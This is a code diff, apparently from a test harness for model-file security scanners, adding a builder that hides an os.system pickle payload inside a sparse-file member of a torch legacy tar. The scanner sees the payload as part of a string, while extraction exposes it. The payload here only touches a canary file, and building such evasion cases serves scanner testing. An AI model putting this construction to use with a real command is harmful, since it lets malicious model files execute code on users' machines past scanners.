@@ -1599,3 +1599,39 @@ def unpack_nested(path: Path, into: Path) -> Path:
     if inner_zip.exists():
         shutil.unpack_archive(str(inner_zip), str(into), "zip")
     return into / "model" / "pytorch_model.bin"
+
+
+def hunt_legacy_tar_sparse(path: Path, canary: Path) -> Path:
+    """torch's legacy tar whose `storages` member is a GNU sparse file: extracted, a hole of
+    zeros lies inside a BINUNICODE string and the protocol 0 payload follows it. The stored
+    bytes hold no hole, so a reader of the raw member sees the string swallow the payload."""
+    import tarfile
+
+    hole_end = 4096 * 4
+    head = b"X" + struct.pack("<I", hole_end - 5)  # the string runs to the end of the hole
+    payload = p_global("os", "system") + MARK + p_string(touch_cmd(canary)) + TUPLE + REDUCE + STOP
+    stored = head.ljust(4096, b"\x00") + payload
+    info = tarfile.TarInfo("storages")
+    info.type = tarfile.GNUTYPE_SPARSE
+    info.size = len(stored)
+    block = bytearray(info.tobuf(format=tarfile.GNU_FORMAT))
+
+    def octal(value: int) -> bytes:
+        return b"%011o\x00" % value
+
+    block[386:410] = octal(0) + octal(4096)
+    block[410:434] = octal(hole_end) + octal(len(payload))
+    block[483:495] = octal(hole_end + len(payload))
+    block[148:156] = b" " * 8
+    block[148:156] = b"%06o\x00 " % sum(block)
+    out = io.BytesIO()
+    out.write(bytes(block) + stored + b"\x00" * (-len(stored) % 512))
+    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as tar:
+        for name, data in (("tensors", b"\x80\x02K\x00."), ("pickle", b"\x80\x02}.")):
+            member = tarfile.TarInfo(name)
+            member.size = len(data)
+            tar.addfile(member, io.BytesIO(data))
+    return _write(path, out.getvalue())
+
+
+ADVERSARIAL_BUILDERS["legacy_tar_sparse_storages"] = ("torch", hunt_legacy_tar_sparse)
